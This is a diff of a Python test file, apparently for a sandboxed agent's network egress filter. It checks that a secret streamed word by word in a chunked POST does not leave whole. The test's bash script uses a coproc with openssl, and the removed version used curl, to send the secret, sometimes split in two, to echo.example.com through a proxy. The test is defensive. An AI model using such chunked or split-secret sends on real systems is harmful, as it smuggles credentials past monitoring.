@@ -103,16 +103,29 @@ def test_what_a_host_has_said_goes_back_to_it_and_to_nobody_else(
     assert len([r for r in internet.since(mark) if r["host"] == "sub.wild.example.com"]) == 2
 
 
+# Sends a word when the one before it was answered, and tells what it hears.
+TALK = """
+coproc C { openssl s_client -quiet -proxy egress:8080 -connect echo.example.com:443 -servername echo.example.com 2>&1; }
+printf 'POST /talk HTTP/1.1\\r\\nHost: echo.example.com\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n' >&${C[1]}
+while read -r word; do
+  printf '%x\\r\\n%s\\r\\n' ${#word} "$word" >&${C[1]}
+  line=
+  until [[ $line == heard* ]]; do IFS= read -r -t 12 line <&${C[0]} || { echo nothing; exit; }; done
+  echo "$line" | tr -d '\\r'
+done
+"""
+
+
 def test_both_sides_of_a_request_may_talk_in_turns(bottle: world.BottleUnderTest) -> None:
-    """Each word is sent when the one before it was answered: neither a length nor an end is waited for."""
-    said = f"one 'it is' {LEAK[:20]} {LEAK[20:]} three"
-    out = bottle.agent(
-        "coproc C { curl -sN -m 60 -X POST -H 'Expect:' -T . https://echo.example.com/talk; }\n"
-        f'for word in {said}; do echo "$word" >&${{C[1]}}; IFS= read -r -t 15 line <&${{C[0]}} || break; echo "$line"; done'
-    )
-    assert out.splitlines()[:2] == ["heard one", "heard it is"]
-    assert "three" not in out
-    assert LEAK[20:] not in out
+    """Neither the length of a body nor its end is waited for; a secret in two pieces is not whole outside."""
+
+    def talk(*words: str) -> list[str]:
+        script = f"cat > /tmp/talk <<'END'\n{TALK}END\nbash /tmp/talk <<'END'\n" + "\n".join(words) + "\nEND"
+        return [line[:100] for line in bottle.agent(script).splitlines()]
+
+    assert talk("one", "it is", "three") == ["heard one", "heard it is", "heard three"]
+    assert talk("one", LEAK[:20], f"{LEAK[20:]} it is", "three") == ["heard one", "nothing"]
+    assert talk("one", f"it is {LEAK} indeed", "three") == ["heard one", "nothing"]
 
 
 def test_claude_gets_its_streamed_answer_and_only_the_model_sees_the_token(
